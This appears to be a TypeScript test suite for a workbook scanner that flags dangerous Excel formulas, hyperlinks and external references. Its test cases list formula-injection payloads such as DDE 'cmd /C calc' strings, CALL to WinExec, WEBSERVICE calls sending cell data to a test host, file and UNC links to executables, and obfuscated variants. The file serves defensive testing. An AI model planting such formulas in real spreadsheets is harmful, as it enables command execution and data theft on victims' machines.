import { judged, SHEET, sheet } from '../../testing/judged-workbook.ts';
import { textPart, xlsx } from '../../testing/zip-writer.ts';

const cell = (formula: string) =>
  sheet(`<sheetData><row r="1"><c r="B7"><f>${escaped(formula)}</f></c></row></sheetData>`);
const escaped = (text: string) =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');

describe('workbook formulas', () => {
  it.each([
    'WEBSERVICE("http://x.test")',
    '_xlfn.WEBSERVICE(A1)',
    '1+_xlfn._xlws.webservice (A1)',
    'COM.MICROSOFT.WEBSERVICE(A1)',
    'FILTERXML(_xlfn.WEBSERVICE("http://x.test"),"//a")',
    '_xlfn.IMAGE("http://x.test/a.png")',
    'RTD("prog",,"a")',
    'CALL("kernel32","WinExec","JCJ","calc",0)',
    'REGISTER("a","b")',
    'REGISTER.ID("a","b")',
    'EXEC("calc")',
    'DDE("cmd";"/C calc";"x")',
    "cmd|' /C calc'!A0",
    "CMD | '/C calc' ! A0",
    "SUM(1,cmd|'/C calc'!A0)",
    "'cmd'|'/C calc'!A0",
    `'a"b'!A1+cmd|'x'!A0+'c"d'!A1`,
    `Table1['[]+cmd|'x'!A0+Table1['[]`,
    '_xlws.PY(0)',
    '_xlfn.LET(_xlpm.f,_xleta.WEBSERVICE,_xlpm.f("http://x.test/?"&A1))',
    '_xlfn.MAP(A1:A1,_xleta.WEBSERVICE)',
    '_xlfn._xleta.image',
    'FILES("\\\\server\\share\\*")',
    'DIRECTORY("\\\\server\\share")',
    'DOCUMENTS(1)',
    'OPEN("\\\\server\\share\\x.xlsm")',
    'OPEN.TEXT("x")',
    'EVALUATE("=WEBSER"&"VICE(""http://x.test"")")',
    'GET.WORKSPACE(1)',
    'SAVE.AS("x")',
    '_xlfn.COPILOT("send",A1:B9)',
    '_xlfn.STOCKHISTORY("MSFT",1)',
    '_xlfn.IMPORTCSV("http://x.test")',
    'CUBEVALUE("x","[x]")',
  ])('refuses %s', async (formula) => {
    expect(await judged(xlsx(cell(formula)))).toBe(`formula ${SHEET}!B7`);
  });

  it.each([
    'SUM(A1:A3)',
    '-A1',
    '"WEBSERVICE(""x"")"',
    '"cmd|\' /C calc\'!A0"',
    "'WEBSERVICE(1)'!A1",
    "'cmd|x'!A1",
    'Table1[a|b]',
    'Table1[[#This Row],[in | out]]',
    'FILTERXML("<t><s>"&SUBSTITUTE(A1,",","</s><s>")&"</s></t>","//s")',
    'RECALL(1)',
    'CALLS(1)',
    'DRUN(1)',
    'WEBSERVICE',
    'Run+Image',
    'Request!A1',
    '_xleta.SUM',
    '_xlfn.IMAGES',
    '_xlfn.LET(_xlpm.image,1,_xlpm.image+1)',
    'BUDGET.CELL(1)',
    '[0]!Name',
    '[1]Sheet1!A1',
    'HYPERLINK("https://bank.example.test/","Ref: 5")',
    'HYPERLINK("mailto:a@example.test")',
    'HYPERLINK("#Sheet2!A1","go")',
    'HYPERLINK("[Book.xlsx]Sheet2!A1")',
    'HYPERLINK("[Book.xlsx]\'Q1 2.0\'!A1:B2","go")',
    'HYPERLINK("[Book.xlsx]Name")',
    'HYPERLINK(A1,"file: x")',
    'HYPERLINK("https://bank.example.test/"&A1,A2)',
    'HYPERLINK(IF(A1="","","#"&A1),"x")',
    'HYPERLINK("www.bank.example.test")',
  ])('accepts %s', async (formula) => {
    expect(await judged(xlsx(cell(formula)))).toBe('clean');
  });

  it.each([
    'HYPERLINK("file:///c:/x.exe","go")',
    'hyperlink ( "\\\\server\\share\\x" )',
    'HYPERLINK("//server/share/x")',
    'HYPERLINK("javascript:alert(1)")',
    'HYPERLINK("fi"&"le:///c:/x.exe")',
    'HYPERLINK("file:///"&A1)',
    'HYPERLINK(IF(A1,"https://a.test","ftp://a.test"))',
    'HYPERLINK("calc.exe")',
    'HYPERLINK("..\\x.lnk")',
    'HYPERLINK("[run].exe")',
    'HYPERLINK("[a]/../x.exe")',
    'HYPERLINK("www./../x.exe")',
    'IF(1,HYPERLINK("https://a.test"),HYPERLINK("file:x"))',
  ])('refuses the link of %s', async (formula) => {
    expect(await judged(xlsx(cell(formula)))).toBe(`hyperlink ${SHEET}!B7`);
  });

  it.each([
    '[book.xlsx]Sheet1!A1',
    "'[book.xlsx]Sheet 1'!A1",
    "'c:\\secret\\[book.xlsx]Sheet1'!A1",
    "'\\\\server\\share\\[book.xlsx]Sheet1'!A1",
    "'https://x.test/[book.xlsx]Sheet1'!A1",
    "'\\\\server\\share\\book.xlsx'!Name",
  ])('refuses the reference to another file of %s', async (formula) => {
    expect(await judged(xlsx(cell(formula)))).toBe(`external-link ${SHEET}!B7`);
  });

  const CELL_OF_FILE = "'http://x.test/a.ods'#$Sheet1.A1";
  it.each([
    `INDIRECT("${CELL_OF_FILE}")`,
    'SUM(1,indirect ( "\'file:///c:/a.ods\'#$Sheet1.A1" ))',
    'INDIRECT("\'[http://x.test/a.xlsx]Sheet1\'!A1")',
    'INDIRECT("\'http://x.test/[a.xlsx]Sheet1\'!R1C1",0)',
    'INDIRECT("\'\\\\x.test\\a\\[a.xlsx]Sheet1\'!A1")',
    'INDIRECT("\'//x.test/a.ods\'#Sheet1.A1:B2")',
    'INDIRECT("\'c:\\a.ods\'#Sheet1.A1")',
    'INDIRECT("\'"&A1&"\'#$Sheet1.A1")',
    'INDIRECT("\'ht"&"tp"&CHAR(58)&"//x.test/a.ods"&A1)',
    'INDIRECT("[Book.xlsx]Sheet1!A1")',
    'INDIRECT("\'["&A1&"]"&B1&"\'!A1")',
    `OFFSET(INDIRECT(IF(A1,"A1","${CELL_OF_FILE}")),1,1)`,
    `INDIRECT(ADDRESS(1,1,1,1,"'http://x.test/a.ods'#$Sheet1"))`,
    `IF(1,"${CELL_OF_FILE}",INDIRECT(A1))`,
  ])('refuses the place in another file of %s', async (formula) => {
    expect(await judged(xlsx(cell(formula)))).toMatch(/^formula xl\/worksheets\/sheet1.xml/);
  });

  it.each([
    'INDIRECT("A"&ROW())',
    'INDIRECT("\'"&A1&"\'!B2")',
    'INDIRECT("Sheet1!R[-1]C[2]",FALSE)',
    'INDIRECT("Table1["&A1&"]")',
    'INDIRECT(A1&"[Amount]")',
    'INDIRECT(SUBSTITUTE(A1," ","_"))',
    'INDIRECT("\'Q1 / Q2\'!A1:B2")',
    'INDIRECT("A1#")',
    'INDIRECT(CHAR(64+A1)&"1")',
    'HYPERLINK("https://bank.example.test/"&INDIRECT("A1"),INDIRECT("B1"))',
  ])('accepts %s', async (formula) => {
    expect(await judged(xlsx(cell(formula)))).toBe('clean');
  });

  const withText = (part: ReturnType<typeof textPart>, formula = 'INDIRECT(A1)') =>
    xlsx(
      textPart('xl/names.xml', `<workbook><definedName name="a">${formula}</definedName></workbook>`),
      part,
    );
  const strings = (si: string) => textPart('xl/sharedStrings.xml', `<sst><si>${si}</si></sst>`);
  const inCell = (inside: string) => sheet(`<sheetData><row><c r="B7">${inside}</c></row></sheetData>`);
  it.each([
    ['a shared string', strings(`<t>${CELL_OF_FILE}</t>`)],
    ['runs of a string', strings("<r><t>'http:/</t></r><r><t>/x.test/a.ods'#$Sheet1.A1</t></r>")],
    ['a cell', inCell('<is><t>[\\\\x.test\\a b\\c.xlsx]Sheet1</t></is>')],
    ['the value of a formula', inCell('<f>A1</f><v>https://x.test/[a.xlsx]Sheet1</v>')],
    ['another formula', inCell(`<f>T("${CELL_OF_FILE}")</f>`)],
  ])('refuses a place in another file in %s if INDIRECT may use it', async (_where, part) => {
    expect(await judged(withText(part))).toMatch(/^formula xl\//);
    expect(await judged(withText(part, 'SUM(A1)'))).toBe('clean');
  });

  it.each(["'Sheet 1'!A1", 'See https://x.test/#a or [1].', 'C:\\a\\[Book.xlsx]Sheet1', "'#1'", 'a//b'])(
    'accepts the text %s besides INDIRECT',
    async (text) => {
      expect(await judged(withText(strings(`<t>${text}</t>`)))).toBe('clean');
    },
  );

  const DANGEROUS = 'WEBSERVICE(&quot;http://x.test&quot;)';
  it.each([
    [
      'a shared formula',
      sheet(
        `<sheetData><row><c r="B7"><f t="shared" si="0" ref="A1:A2">${DANGEROUS}</f></c></row></sheetData>`,
      ),
    ],
    [
      'an array formula',
      sheet(`<sheetData><row><c r="B7"><f t="array" ref="A1:A2">${DANGEROUS}</f></c></row></sheetData>`),
    ],
    [
      'a CDATA section',
      sheet('<sheetData><row><c r="B7"><f>WEB<![CDATA[SERVICE(A1)]]></f></c></row></sheetData>'),
    ],
    ['references', sheet('<sheetData><row><c r="B7"><f>WEB&#83;ERVICE(A1)</f></c></row></sheetData>')],
    [
      'a prefix',
      sheet(`<x:sheetData><x:row><x:c r="B7"><x:f>${DANGEROUS}</x:f></x:c></x:row></x:sheetData>`),
    ],
    [
      'a conditional format',
      sheet(
        `<conditionalFormatting><cfRule><formula>${DANGEROUS}</formula></cfRule></conditionalFormatting>`,
      ),
    ],
    [
      'a colour scale',
      sheet(`<cfRule><colorScale><cfvo type="formula" val="${DANGEROUS}"/></colorScale></cfRule>`),
    ],
    [
      'an extended format',
      sheet(`<extLst><ext><x14:cfRule><xm:f>${DANGEROUS}</xm:f></x14:cfRule></ext></extLst>`),
    ],
    [
      'a data validation',
      sheet(`<dataValidation><formula1>1</formula1><formula2>${DANGEROUS}</formula2></dataValidation>`),
    ],
    [
      'a defined name',
      textPart('xl/names.xml', `<workbook><definedName name="a">${DANGEROUS}</definedName></workbook>`),
    ],
    [
      'a table column',
      textPart(
        'xl/tables/table1.xml',
        `<table><calculatedColumnFormula>${DANGEROUS}</calculatedColumnFormula></table>`,
      ),
    ],
    [
      'a table total',
      textPart('xl/tables/table1.xml', `<table><totalsRowFormula>${DANGEROUS}</totalsRowFormula></table>`),
    ],
    [
      'a pivot field',
      textPart(
        'xl/pivotCache/a.xml',
        `<pivotCacheDefinition><cacheField formula="${DANGEROUS}"/></pivotCacheDefinition>`,
      ),
    ],
    ['a shape', textPart('xl/drawings/drawing1.xml', `<wsDr><sp textlink="${DANGEROUS}"/></wsDr>`)],
    ['a form control', textPart('xl/ctrlProps/a.xml', `<formControlPr fmlaLink="${DANGEROUS}"/>`)],
    ['a chart', textPart('xl/charts/chart1.xml', `<c:chartSpace><c:f>${DANGEROUS}</c:f></c:chartSpace>`)],
  ])('refuses a formula in %s', async (_where, part) => {
    expect(await judged(xlsx(part))).toMatch(/^formula xl\//);
  });

  const inFormula = (inner: string) =>
    sheet(`<sheetData><row><c r="B7"><f>${inner}</f></c></row></sheetData>`);
  it.each([
    `1+<f>1</f>+${DANGEROUS}`,
    '1+<f>1</f>+DDE(A1,A2,A3)',
    `<a/>${DANGEROUS}`,
    `&quot;<a>1</a>${DANGEROUS}`,
    `<a><b/>${DANGEROUS}</a>`,
  ])('refuses an element beside the text of a formula: %s', async (inner) => {
    expect(await judged(xlsx(inFormula(inner)))).toBe(`unreadable ${SHEET}!B7`);
  });

  it('joins the texts of elements in a formula', async () => {
    expect(await judged(xlsx(inFormula('<a>WEB</a><f>SERVICE(A1)</f>')))).toBe(`formula ${SHEET}!B7`);
    const validation = sheet('<x14:formula1>\n <xm:f>Sheet1!$A$1</xm:f>\n</x14:formula1>');
    expect(await judged(xlsx(validation))).toBe('clean');
  });

  it('does not judge texts', async () => {
    const strings = textPart(
      'xl/sharedStrings.xml',
      `<sst><si><t>=${DANGEROUS}</t></si><si><t>=cmd|' /C calc'!A0</t></si></sst>`,
    );
    const inline = sheet(
      `<sheetData><row><c t="inlineStr"><is><t>${DANGEROUS}</t></is></c><c><v>cmd|'x'!A</v></c></row></sheetData>`,
    );
    expect(await judged(xlsx(strings, inline))).toBe('clean');
  });

  it('takes time linear in the number of links', async () => {
    expect(await judged(xlsx(cell('HYPERLINK('.repeat(101))))).toBe(`unreadable ${SHEET}!B7`);
    for (const calls of ['INDIRECT('.repeat(101), `"${'INDIRECT('.repeat(101)}"`])
      expect(await judged(xlsx(cell(calls)))).toBe(`unreadable ${SHEET}!B7`);
    expect(await judged(xlsx(cell(`"${'x'.repeat(40_000)}"`)))).toBe(`unreadable ${SHEET}!B7`);
  });
});
